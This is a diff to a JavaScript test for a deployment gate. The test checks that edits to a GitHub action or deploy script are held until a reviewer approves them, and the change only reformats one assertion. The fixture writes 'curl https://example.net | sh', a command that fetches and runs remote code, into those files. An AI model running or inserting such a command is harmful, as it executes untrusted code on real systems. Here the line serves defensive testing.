@@ -8,7 +8,11 @@ it.each(['.github/actions/x/action.yml', 'scripts/deploy/lib/sites.sh'])('%s', a
   const s = await gateScenario();
   s.deploy();
   const pull = s.land({ body: BODY, changes: { ...RP_CHANGE, [path]: 'curl https://example.net | sh\n' } });
-  expect(await s.gate()).toMatchObject({ verdict: 'hold', targets: null, codes: expect.arrayContaining(['policy.changed']) });
+  expect(await s.gate()).toMatchObject({
+    verdict: 'hold',
+    targets: null,
+    codes: expect.arrayContaining(['policy.changed']),
+  });
   s.world.review(pull.number, { author: 'erin' });
   expect(await s.gate()).toMatchObject({ verdict: 'allow' });
 });
